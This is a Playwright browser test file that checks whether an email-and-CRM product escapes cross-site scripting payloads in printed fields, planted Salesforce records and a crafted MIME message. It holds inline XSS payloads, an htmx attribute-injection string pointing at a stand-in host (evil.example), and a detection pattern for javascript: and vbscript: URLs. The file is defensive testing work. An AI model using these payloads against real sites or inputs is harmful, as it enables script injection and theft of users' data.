"""Cross-site scripting: the corpus in every field that is printed, executed in Chromium on the real pages.

A page with a payload has exactly the elements and attributes of the page without one; nothing runs, nothing is asked
for, and the page's policy has nothing to block. One pass goes through the whole product with planted mail and records.
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime
from email.utils import format_datetime
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser, Dialog, Page, expect

from tests.browser.conftest import Outlook
from tests.browser.payloads import PAYLOADS
from tests.look import pictures
from tests.look.poison import replaced
from tests.look.registry import PARTS, Example, examples

pytestmark = pytest.mark.browser

#: Examples whose every field gets every payload in turn; each other field gets three of them.
THOROUGH = ("email/several", "sync/issues")
PLANT = """() => {
    window.ran = [];
    window.planted = () => window.ran.push("ran");
    document.addEventListener("securitypolicyviolation", (event) => window.ran.push(`blocked ${event.blockedURI}`));
}"""
#: Puts an answer into its places as the client does, and tells what elements and attributes are there then.
SWAP = """async (places) => {
    for (const [name, html] of Object.entries(places)) {
        const place = document.getElementById(name);
        const target = place.querySelector("[data-sync-body]") || place;
        htmx.swap(target, html, {swapStyle: "innerHTML", swapDelay: 0, settleDelay: 0});
    }
    await new Promise((done) => setTimeout(done, 5));
    const shape = [];
    const walk = (node) => {
        for (const one of node.children) {
            if (one.tagName === "WBR") {
                continue;
            }
            const names = one.getAttributeNames().filter((name) => !/^data-(?!hx)/.test(name));
            shape.push(`${one.tagName}[${names.sort()}]`);
            walk(one.content || one);
        }
    };
    Object.keys(places).forEach((name) => walk(document.getElementById(name)));
    const links = [...document.querySelectorAll("[href], [src], [action], [formaction]")];
    const schemes = links.map((one) => one.href?.baseVal ?? one.href ?? one.src ?? one.action).filter(Boolean);
    const harmful = schemes.filter((address) => /^\\s*(javascript|data:[^,]|vbscript):?/i.test(address));
    return {shape, harmful, ran: window.ran};
}"""


@dataclass
class Watched:
    """A page with htmx on it; `asked` are the addresses that it asked for since, `dialogs` what it showed."""

    page: Page
    origin: str
    asked: list[str] = field(default_factory=list)
    dialogs: list[str] = field(default_factory=list)

    def refuse(self, dialog: Dialog) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def open(self, example: Example) -> None:
        self.page.goto(f"{self.origin}/show/outlook/{example.name}")
        self.page.evaluate(PLANT)
        self.page.add_script_tag(url=f"{self.origin}/static/vendor/htmx/htmx.min.js")
        # What the shell's own settings say to htmx is read by it when it starts.
        assert self.page.evaluate("htmx.config.allowEval") is False
        self.page.wait_for_timeout(20)
        self.asked.clear()

    def put(self, places: Mapping[str, str]) -> list[str]:
        found = self.page.evaluate(SWAP, dict(places))
        assert found["ran"] == []
        assert found["harmful"] == []
        assert self.asked == []
        assert self.dialogs == []
        shape: list[str] = found["shape"]
        return shape


@pytest.fixture(scope="module")
def watched(browser: Browser) -> Iterator[Watched]:
    with pictures.served(examples()) as origin:
        page = pictures.window(browser, viewport={"width": 320, "height": 560}).new_page()
        watched = Watched(page, origin)
        page.on("request", lambda request: watched.asked.append(request.url))
        page.on("dialog", watched.refuse)
        # What polls asks for itself, which is nobody's doing here.
        page.route(re.compile(r"^http://[^/]+/(pane|sync)/"), lambda route: route.abort())
        yield watched


def drawn(example: Example, offset: int) -> Mapping[str, str]:
    """With another payload in each place that prints a word, beginning at `offset`; -1 is none."""
    words = itertools.cycle(PAYLOADS[offset:] + PAYLOADS[:offset]) if offset >= 0 else itertools.repeat("Words")
    with replaced(lambda: next(words)):
        return {name: html.replace("hx-trigger=", "data-trigger=") for name, html in example.places().items()}


@pytest.mark.parametrize("part", [part for part in PARTS if part != "languages"])
def test_nothing_that_is_printed_becomes_more_than_text(part: str, watched: Watched) -> None:
    opened = None
    for example in examples().values():
        if example.part != part or example.is_tab or not example.places():
            continue
        if opened is None or opened.view != example.view:
            watched.open(example)
            opened = example
        harmless = watched.put(drawn(example, -1))
        offsets = range(len(PAYLOADS)) if example.name in THOROUGH else range(0, len(PAYLOADS), len(PAYLOADS) // 3)
        for offset in offsets:
            shape = watched.put(drawn(example, offset))
            differing = [pair for pair in itertools.zip_longest(harmless, shape) if pair[0] != pair[1]][:3]
            assert not differing, (example.name, offset, differing)


def test_what_would_run_is_found_and_blocked(watched: Watched) -> None:
    """The measures measure; and were a template to print a payload unescaped, the policy would still not run it."""
    watched.open(examples()["email/one-person"])
    told = watched.page.evaluate(SWAP, {"email": "<p>Words</p><p>Words</p>"})
    for payload in ("<img src=x onerror=planted()>", "<svg onload=planted()>", "<p onclick=planted()>x</p>"):
        watched.asked.clear()
        found = watched.page.evaluate(SWAP, {"email": f"<p>{payload}</p><p>Words</p>"})
        assert found["shape"] != told["shape"], payload
    watched.page.locator("#email p p, #email p[onclick]").first.click()
    ran = watched.page.evaluate("window.ran")
    assert "ran" not in ran
    assert any(line.startswith("blocked") for line in ran)


MIME = """From: {name} <harm@harm.example>
To: Mia Keller <mia.keller@larkfield.example>
Cc: {name} <unknown@harm.example>
Date: {date}
Subject: {subject}
Message-ID: <{identifier}@harm.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary=part

--part
Content-Type: text/plain; charset=utf-8

Hello
--part
Content-Type: application/pdf
Content-Disposition: attachment; filename*=utf-8''{file}

%PDF-1.4
--part--
"""


def test_planted_mail_and_records_run_nothing_from_end_to_end(outlook: Callable[..., Outlook]) -> None:
    """Names, subject, file, account, opportunity and case that mean harm: opened, unfolded, filed, searched, listed."""
    window = outlook()
    sandbox = window.stack.sandbox
    harm = "\"><img src=x onerror=planted()><svg onload=planted()>' hx-get='//evil.example/"
    token = sandbox.salesforce_login("mia")["access_token"]

    def create(name: str, **fields: str) -> str:
        answer = sandbox.http.post(
            f"{sandbox.info['salesforce_login_url']}/services/data/v66.0/sobjects/{name}",
            json=fields,
            headers={"Authorization": f"Bearer {token}"},
            timeout=15,
        )
        assert answer.status_code == 201, answer.text
        created: str = answer.json()["id"]
        return created

    account = create("Account", Name=harm)
    contact = create("Contact", LastName=harm, Title=harm, Email="harm@harm.example", AccountId=account)
    create("Opportunity", Name=harm, AccountId=account, StageName="Proposal", CloseDate="2027-01-31")
    create("Case", Subject=harm, AccountId=account, ContactId=contact)
    quoted = '"' + harm.replace('"', '\\"') + '"'
    mime = MIME.format(
        name=quoted,
        subject=harm,
        date=format_datetime(datetime.now(UTC)),
        identifier="harm-1",
        file=quote(f"{harm}.pdf"),
    )
    sandbox.deliver("mia", mime)
    asked: list[str] = []
    window.page.on("request", lambda request: asked.append(request.url))
    window.page.add_init_script("window.planted = () => { top.ran = true; };")
    window.start()
    window.click(window.page.locator(".message").first)
    expect(window.pane.locator(".card__name").first).to_have_text(harm)
    expect(window.pane.locator(".row__name", has_text="onerror").first).to_be_visible()
    for summary in window.pane.locator("summary:visible").all():
        summary.click()
    window.pane.locator("[data-file]").click()
    expect(window.filed()).to_be_visible(timeout=30_000)
    window.pane.locator("#open-records").click()
    find = window.pane.locator("#records-q")
    find.fill("onerror")
    expect(window.pane.locator("#records-list")).to_contain_text("onerror")
    find.fill(harm)
    expect(window.pane.locator("#records-list .skeleton")).to_have_count(0)
    assert window.page.evaluate("window.ran") is None
    assert [url for url in asked if not url.startswith((window.stack.address, "data:"))] == []
    assert window.unexpected() == []
